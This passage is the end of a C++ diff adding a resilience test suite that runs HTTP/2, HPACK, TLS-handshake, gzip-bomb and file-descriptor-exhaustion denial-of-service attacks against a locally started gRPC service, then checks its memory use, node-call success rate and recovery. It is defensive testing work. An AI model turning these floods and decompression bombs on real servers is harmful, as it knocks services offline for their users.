+            next = std::max(next, steady_clock::now() - kLegitInterval);  // no catch-up burst
+          }
+        }) {}
+  ~NodeClient() { Stop(); }
+
+  void Stop() {
+    stop_ = true;
+    if (thread_.joinable()) thread_.join();
+  }
+  int ok() const {
+    std::lock_guard<std::mutex> lock(mu_);
+    return ok_;
+  }
+  int total() const {
+    std::lock_guard<std::mutex> lock(mu_);
+    return total_;
+  }
+  std::vector<std::string> failures() const {
+    std::lock_guard<std::mutex> lock(mu_);
+    return failures_;
+  }
+
+ private:
+  std::atomic<bool> stop_{false};
+  mutable std::mutex mu_;
+  int ok_ = 0;
+  int total_ = 0;
+  std::vector<std::string> failures_;
+  std::thread thread_;  // last: started once everything it uses exists
+};
+
+// Samples VmRSS every kRssSampleInterval; stops the attack when the service is gone or past
+// idle + kRssAbortKb.
+class RssWatch {
+ public:
+  RssWatch(pid_t pid, long idle_kb, AttackCtl* ctl)
+      : peak_kb_(idle_kb), thread_([this, pid, idle_kb, ctl] {
+          while (!stop_) {
+            long kb = RssKb(pid);
+            if (kb < 0) {
+              gone_ = true;
+              ctl->stop = true;
+              return;
+            }
+            peak_kb_ = std::max(peak_kb_.load(), kb);
+            if (kb > idle_kb + kRssAbortKb) {
+              aborted_ = true;
+              ctl->stop = true;
+            }
+            std::this_thread::sleep_for(kRssSampleInterval);
+          }
+        }) {}
+  ~RssWatch() { Stop(); }
+  void Stop() {
+    stop_ = true;
+    if (thread_.joinable()) thread_.join();
+  }
+  long peak_kb() const { return peak_kb_; }
+  bool aborted() const { return aborted_; }
+  bool gone() const { return gone_; }
+
+ private:
+  std::atomic<bool> stop_{false};
+  std::atomic<long> peak_kb_;
+  std::atomic<bool> aborted_{false};
+  std::atomic<bool> gone_{false};
+  std::thread thread_;
+};
+
+struct CaseResult {
+  long idle_kb = 0;
+  long peak_kb = 0;
+  int node_ok = 0;
+  int node_total = 0;
+  std::vector<std::string> node_failures;
+  bool rss_aborted = false;
+  bool service_gone = false;
+  double seconds = 0;
+  std::string stats;
+};
+
+// ---- The fixture -------------------------------------------------------------------------
+
+class ServiceAttackTest : public ::testing::Test {
+ protected:
+  static void SetUpTestSuite() {
+    // Under ASan freed memory sits in a 256 MiB quarantine that would read as growth; a small
+    // one keeps the RSS bound about what the service holds (inherited by the service).
+    const char* asan = std::getenv("ASAN_OPTIONS");
+    std::string options = asan ? std::string(asan) + ":" : std::string();
+    setenv("ASAN_OPTIONS", (options + "quarantine_size_mb=16").c_str(), 1);
+    net::IgnoreSigpipe();  // OpenSSL writes to sockets the service may have reset
+    files_ = new ServiceFiles();
+    files_->WriteComponent(kAksNodeControllerComponent, kServedMap);
+    token_ = new std::string(files_->Token());
+  }
+  static void TearDownTestSuite() {
+    delete token_;
+    delete files_;
+  }
+
+  // The service's log minus the access-log lines (one per node call), which say nothing
+  // about the attack.
+  void TearDown() override {
+    if (!HasFailure() || !lps_) return;
+    std::istringstream in(lps_->Stderr());
+    std::string other;
+    for (std::string line; std::getline(in, line);) {
+      if (line.find(R"("msg":"GetComponentConfig")") == std::string::npos) other += line + "\n";
+    }
+    ADD_FAILURE() << "service stderr without access-log lines (tail):\n" << Tail(other, 4000);
+  }
+
+  // `wrapper` runs the service under another program that execs it (prlimit), so the pid
+  // stays the service's.
+  void StartService(const std::vector<std::string>& wrapper = {}) {
+    std::vector<std::string> argv = wrapper;
+    // A short drain: whatever an attack leaves open must not hold the next case up.
+    for (auto& a : files_->Args({"--shutdown-grace-seconds", "1"})) argv.push_back(a);
+    lps_ = std::make_unique<ServiceProcess>(std::move(argv));
+  }
+
+  pid_t pid() { return lps_->process().pid(); }
+
+  // The warm-up call that brings the serving path's one-off allocations in, then idle RSS.
+  long WarmUpAndIdleRss() {
+    GrpcReply r = NodeCall(*files_, lps_->port(), *token_, seconds(20));
+    EXPECT_TRUE(r.status.ok()) << "warm-up: " << r.status.error_message();
+    std::this_thread::sleep_for(milliseconds(200));
+    return RssKb(pid());
+  }
+
+  // One case: fresh service (StartService() first), warm-up, then `attack` on `threads`
+  // threads for kAttackDuration while a node calls every 100 ms and RSS is sampled.
+  CaseResult RunAttack(const std::string& name, int threads,
+                       const std::function<void(AttackCtl&)>& attack) {
+    CaseResult r;
+    r.idle_kb = WarmUpAndIdleRss();
+    AttackCtl ctl;
+    ctl.port = lps_->port();
+    auto started = steady_clock::now();
+    {
+      RssWatch rss(pid(), r.idle_kb, &ctl);
+      NodeClient node(*files_, lps_->port(), *token_);
+      std::vector<std::thread> attackers;
+      for (int i = 0; i < threads; ++i) attackers.emplace_back([&] { attack(ctl); });
+      while (ctl.Running() && steady_clock::now() - started < kAttackDuration) {
+        std::this_thread::sleep_for(milliseconds(20));
+      }
+      ctl.stop = true;
+      for (auto& t : attackers) t.join();
+      node.Stop();
+      rss.Stop();
+      r.peak_kb = rss.peak_kb();
+      r.rss_aborted = rss.aborted();
+      r.service_gone = rss.gone();
+      r.node_ok = node.ok();
+      r.node_total = node.total();
+      r.node_failures = node.failures();
+    }
+    r.seconds = std::chrono::duration<double>(steady_clock::now() - started).count();
+    r.stats = ctl.stats.Summary();
+    std::cout << "[attack] " << name << ": idle " << r.idle_kb / 1024 << " MiB, peak "
+              << r.peak_kb / 1024 << " MiB (+" << (r.peak_kb - r.idle_kb) / 1024
+              << " MiB), node calls OK " << r.node_ok << "/" << r.node_total << " ("
+              << (r.node_total ? 100.0 * r.node_ok / r.node_total : 0.0) << "%), "
+              << (r.rss_aborted ? "ABORTED at idle + 256 MiB, " : "")
+              << (r.service_gone ? "SERVICE GONE, " : "") << r.seconds << " s; " << r.stats
+              << std::endl;
+    return r;
+  }
+
+  void ExpectBoundedMemory(const CaseResult& r) {
+    EXPECT_FALSE(r.service_gone) << "the service exited during the attack";
+    EXPECT_FALSE(r.rss_aborted) << "stopped early: VmRSS passed idle + 256 MiB";
+    EXPECT_LT(r.peak_kb - r.idle_kb, kRssBoundKb)
+        << "peak VmRSS " << r.peak_kb << " kB, idle " << r.idle_kb << " kB";
+  }
+
+  void ExpectNodesServed(const CaseResult& r) {
+    ASSERT_GT(r.node_total, 0);
+    const double success_pct = 100.0 * r.node_ok / r.node_total;
+    std::string failures;
+    for (const auto& f : r.node_failures) failures += "\n  " + f;
+    EXPECT_GE(success_pct, kMinLegitSuccessPct)
+        << r.node_ok << " of " << r.node_total << " node calls OK; first failures:" << failures;
+  }
+
+  // Alive, and a node's call (a generous deadline: the attack has just stopped) is served.
+  void ExpectStillServing() {
+    ASSERT_TRUE(lps_->process().running()) << "the service exited";
+    GrpcReply r = NodeCall(*files_, lps_->port(), *token_, seconds(10));
+    ASSERT_TRUE(r.status.ok()) << r.code() << " " << r.status.error_message();
+    EXPECT_EQ(r.response.config(), kServedMap);
+  }
+
+  void ExpectWithstood(const CaseResult& r) {
+    ExpectBoundedMemory(r);
+    ExpectNodesServed(r);
+    ExpectStillServing();
+  }
+
+  static ServiceFiles* files_;
+  static std::string* token_;
+  std::unique_ptr<ServiceProcess> lps_;
+};
+
+ServiceFiles* ServiceAttackTest::files_ = nullptr;
+std::string* ServiceAttackTest::token_ = nullptr;
+
+TEST_F(ServiceAttackTest, RapidResetOnOneConnection) {
+  StartService();
+  ExpectWithstood(RunAttack("rapid reset, 1 connection", 1, RapidReset));
+}
+
+TEST_F(ServiceAttackTest, RapidResetOnFourConnections) {
+  StartService();
+  ExpectWithstood(RunAttack("rapid reset, 4 connections", 4, RapidReset));
+}
+
+TEST_F(ServiceAttackTest, ContinuationFloodWithNewHeaderNames) {
+  StartService();
+  ExpectWithstood(RunAttack("CONTINUATION flood", 1, ContinuationFlood));
+}
+
+TEST_F(ServiceAttackTest, OneHeaderValueOverManyContinuations) {
+  StartService();
+  ExpectWithstood(
+      RunAttack("10 MiB value in 16 KiB CONTINUATIONs", 1, HeaderValueOverManyContinuations));
+}
+
+TEST_F(ServiceAttackTest, HpackLiteralDeclaring100MiB) {
+  StartService();
+  ExpectWithstood(RunAttack("100 MiB HPACK literals", 1, HugeHpackLiteral));
+}
+
+TEST_F(ServiceAttackTest, HpackIntegersPaddedWithContinuationBytes) {
+  StartService();
+  ExpectWithstood(RunAttack("HPACK varint padding", 1, HpackVarintPadding));
+}
+
+TEST_F(ServiceAttackTest, SettingsFloodNeverReadingTheAcks) {
+  StartService();
+  const std::string settings = h2::Settings({{h2::kEnablePush, 0},
+                                             {h2::kMaxConcurrentStreams, 100},
+                                             {h2::kInitialWindowSize, 65535},
+                                             {h2::kMaxHeaderListSize, 16384}});
+  ExpectWithstood(RunAttack("SETTINGS flood", 1, [&](AttackCtl& ctl) {
+    ControlFrameFlood(ctl, [&](uint64_t) { return settings; });
+  }));
+}
+
+TEST_F(ServiceAttackTest, PingFloodNeverReadingTheAcks) {
+  StartService();
+  ExpectWithstood(RunAttack("PING flood", 1, [](AttackCtl& ctl) {
+    ControlFrameFlood(ctl, [](uint64_t n) { return h2::Ping(n); });
+  }));
+}
+
+TEST_F(ServiceAttackTest, WindowUpdatesThatOverflowAndThousandsOfThem) {
+  StartService();
+  ExpectWithstood(RunAttack("WINDOW_UPDATE abuse", 1, WindowUpdateAbuse));
+}
+
+TEST_F(ServiceAttackTest, StreamsThatNeverEndOnManyConnections) {
+  StartService();
+  ExpectWithstood(RunAttack("unfinished streams, 4 x 8 connections", 4, UnfinishedStreams));
+}
+
+TEST_F(ServiceAttackTest, FiveHundredHandshakesNeverFinished) {
+  StartService();
+  ExpectWithstood(RunAttack("500 unfinished TLS handshakes", 1, HandshakesNeverFinished));
+}
+
+TEST_F(ServiceAttackTest, GzipBombIsRefusedUninflated) {
+  // 15 MiB inflated in one message under the 16 KiB request cap and one 16 KiB DATA frame:
+  // the cap cannot protect a server that inflates before it counts.
+  const std::string message = GrpcFrame(h2::GzipOfZeros(15 * kMiB), /*flags=*/1);
+  ASSERT_LT(message.size(), 16u * 1024);
+  StartService();
+
+  ExpectWithstood(
+      RunAttack("gzip bombs", 1, [&](AttackCtl& ctl) { DecompressionBombs(ctl, message); }));
+
+  // Then the verdict for a bomb from an attested node, whose only fault is the encoding:
+  // gRPC's answer for an encoding the server does not take. (After the flood, not before:
+  // a server that inflates it would otherwise enter the flood with that memory counted as
+  // idle.)
+  std::unique_ptr<H2Conn> c = H2Conn::Open(lps_->port(), nullptr);
+  ASSERT_NE(c, nullptr);
+  const std::string block = RequestBlock({{"authorization", *token_}, {"grpc-encoding", "gzip"}});
+  ASSERT_TRUE(c->Send(h2::Headers(1, block, h2::kEndHeaders) + h2::Data(1, message, true)));
+  for (auto until = steady_clock::now() + seconds(10);
+       !c->GrpcStatus(1) && !c->ResetCode(1) && !c->closed() && steady_clock::now() < until;) {
+    c->Pump(milliseconds(50));
+  }
+  ASSERT_TRUE(c->GrpcStatus(1).has_value())
+      << "no grpc-status for the bomb; RST_STREAM "
+      << (c->ResetCode(1) ? std::to_string(*c->ResetCode(1)) : "none")
+      << (c->closed() ? ", connection closed" : "");
+  EXPECT_EQ(*c->GrpcStatus(1), static_cast<int>(grpc::StatusCode::UNIMPLEMENTED));
+}
+
+TEST_F(ServiceAttackTest, IdleConnectionsPastTheFdLimitThenServingAgain) {
+  constexpr long kFdLimit = 256;
+  constexpr size_t kIdleConnections = 2 * kFdLimit;
+  constexpr milliseconds kHold{2000};
+  constexpr milliseconds kRecovery{5000};
+  StartService(
+      {"prlimit", "--nofile=" + std::to_string(kFdLimit) + ":" + std::to_string(kFdLimit)});
+  ASSERT_EQ(MaxOpenFiles(pid()), kFdLimit) << "prlimit did not apply to the service's pid";
+
+  CaseResult r;
+  r.idle_kb = WarmUpAndIdleRss();
+  AttackCtl ctl;
+  RssWatch rss(pid(), r.idle_kb, &ctl);
+  std::vector<int> idle;
+  {
+    // While the fds are exhausted a node may well be refused: counted, not asserted.
+    NodeClient node(*files_, lps_->port(), *token_);
+    idle = ConnectMany(lps_->port(), kIdleConnections, seconds(1));
+    std::this_thread::sleep_for(kHold);
+    node.Stop();
+    r.node_ok = node.ok();
+    r.node_total = node.total();
+  }
+  for (int fd : idle) close(fd);
+
+  // Once they are gone the listener accepts again: a node is served within a few seconds,
+  // and every node after it.
+  auto recovered_by = steady_clock::now() + kRecovery;
+  GrpcReply first;
+  do {
+    auto left = std::chrono::duration_cast<milliseconds>(recovered_by - steady_clock::now());
+    first = NodeCall(*files_, lps_->port(), *token_,
+                     std::clamp(left, milliseconds(100), kLegitDeadline));
+  } while (!first.status.ok() && steady_clock::now() < recovered_by);
+  int ok_after = 0;
+  if (first.status.ok()) {
+    for (int i = 0; i < 10; ++i) ok_after += NodeCall(*files_, lps_->port(), *token_).status.ok();
+  }
+  rss.Stop();
+  r.peak_kb = rss.peak_kb();
+  r.rss_aborted = rss.aborted();
+  r.service_gone = rss.gone();
+  std::cout << "[attack] " << kIdleConnections << " idle connections, fd limit " << kFdLimit << ": "
+            << idle.size() << " connected, idle " << r.idle_kb / 1024 << " MiB, peak "
+            << r.peak_kb / 1024 << " MiB (+" << (r.peak_kb - r.idle_kb) / 1024
+            << " MiB), node calls OK while held " << r.node_ok << "/" << r.node_total
+            << ", after: " << (first.status.ok() ? "served" : "NOT served") << ", then " << ok_after
+            << "/10 OK" << std::endl;
+
+  // More than the service could take: the kernel's backlog holds what it did not accept.
+  EXPECT_GT(idle.size(), static_cast<size_t>(kFdLimit));
+  ExpectBoundedMemory(r);
+  ASSERT_TRUE(first.status.ok()) << "not serving " << kRecovery.count()
+                                 << " ms after the idle connections closed: " << first.code() << " "
+                                 << first.status.error_message();
+  EXPECT_EQ(ok_after, 10) << "calls after recovery";
+  ExpectStillServing();
+}
+
+}  // namespace
+}  // namespace hotfix::testsupport
